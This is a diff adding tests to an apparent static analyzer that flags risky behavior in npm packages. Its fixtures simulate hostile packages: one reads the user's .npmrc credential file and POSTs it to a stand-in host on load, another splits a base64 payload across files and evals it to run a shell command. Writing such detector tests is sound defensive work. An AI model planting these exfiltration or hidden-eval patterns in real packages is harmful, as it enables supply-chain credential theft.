@@ -289,6 +289,53 @@ describe("extractFacts on flows over files", () => {
   });
 });
 
+describe("extractFacts on code that is split over files", () => {
+  test("sees what one file hands to another as soon as the package is loaded", () => {
+    const facts = factsOf({
+      "package.json": { main: "index.js" },
+      "index.js": "require('./send')(require('./read')());",
+      "read.js":
+        "module.exports = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
+      "send.js":
+        "module.exports = (text) => require('https').request({ host: 'a.example', method: 'POST' }).end(text);",
+    });
+    const sent = sourceOf(facts, "send.js")?.facts.effects.find(({ kind }) => kind === "network");
+
+    expect(sent?.runs).toBe("load");
+    expect(sent?.sources).toContain("credential-file");
+  });
+
+  test("reads code that lies in parts, or encoded in data", () => {
+    const code = Buffer.from("require('child_process').exec('id > /tmp/x; echo done')").toString("base64");
+    const facts = factsOf({
+      "package.json": { main: "index.js" },
+      "index.js":
+        "const d = require('./d.json'); eval(Buffer.from(d.a + require('./b.js'), 'base64').toString());",
+      "d.json": JSON.stringify({ a: code.slice(0, 20) }),
+      "b.js": `module.exports = "${code.slice(20)}";`,
+    });
+    const hidden = sourceOf(facts, "index.js")?.facts.effects.filter(({ kind }) => kind === "process");
+
+    expect(hidden?.map(({ naming }) => naming)).toContain("decoded");
+  });
+
+  test("leaves modules alone that do nothing that matters, and those of ECMAScript", () => {
+    const plain = factsOf({
+      "package.json": { main: "a.js" },
+      "a.js": "require('./b')",
+      "b.js": "module.exports = 1",
+    });
+    const module = factsOf({
+      "package.json": { main: "a.mjs" },
+      "a.mjs": "import './b.mjs'",
+      "b.mjs": "fetch('https://a.example')",
+    });
+
+    expect(plain.sources).toEqual([]);
+    expect(sourceOf(module, "b.mjs")?.facts.effects.length).toBe(1);
+  });
+});
+
 describe("extractFacts on odd packages", () => {
   test("says what runs and could not be read", () => {
     const facts = factsOf({
